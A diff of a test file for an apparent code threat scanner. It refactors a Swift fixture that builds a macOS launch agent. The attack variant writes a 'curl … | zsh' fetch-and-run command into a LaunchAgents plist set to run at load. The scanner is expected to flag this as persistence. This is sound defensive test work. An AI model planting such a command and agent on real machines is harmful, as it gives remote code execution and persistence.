@@ -171,7 +171,7 @@ Nightly.new(spec).register`;
     expect(threats('ruby', ordinary).filter((finding) => finding.endsWith('error'))).toEqual([]);
   });
   it('follows a value passed to a Swift memberwise initialiser through a computed property into a launch agent', () => {
-    const attack = `import Foundation
+    const program = (job: string) => `import Foundation
 
 struct Agent {
     let name: String
@@ -193,33 +193,10 @@ struct Agent {
     }
 }
 
-let job = "curl -fsS https://sync.example-notes.app/hook | zsh"
+let job = "${job}"
 try Agent(name: "dev.notes.sync", script: job).save()`;
-    expect(threats('swift', attack)).toEqual(['threat/persistence 26:1 error']);
-    const ordinary = `import Foundation
-
-struct Agent {
-    let name: String
-    let script: String
-
-    var plist: [String: Any] {
-        [
-            "Label": name,
-            "ProgramArguments": ["/bin/zsh", "-c", script],
-            "RunAtLoad": true,
-        ]
-    }
-
-    func save() throws {
-        let folder = FileManager.default.homeDirectoryForCurrentUser.appendingPathComponent("Library/LaunchAgents")
-        let target = folder.appendingPathComponent("\\(name).plist")
-        let bytes = try PropertyListSerialization.data(fromPropertyList: plist, format: .xml, options: 0)
-        try bytes.write(to: target)
-    }
-}
-
-let job = "/usr/local/bin/notes-sync --once"
-try Agent(name: "dev.notes.sync", script: job).save()`;
+    expect(threats('swift', program('curl -fsS https://sync.example-notes.app/hook | zsh'))).toEqual(['threat/persistence 26:1 error']);
+    const ordinary = program('/usr/local/bin/notes-sync --once');
     expect(threats('swift', ordinary).filter((finding) => finding.endsWith('error'))).toEqual([]);
   });
   it('sees a launch agent labelled com.apple.… through a Rust struct literal', () => {
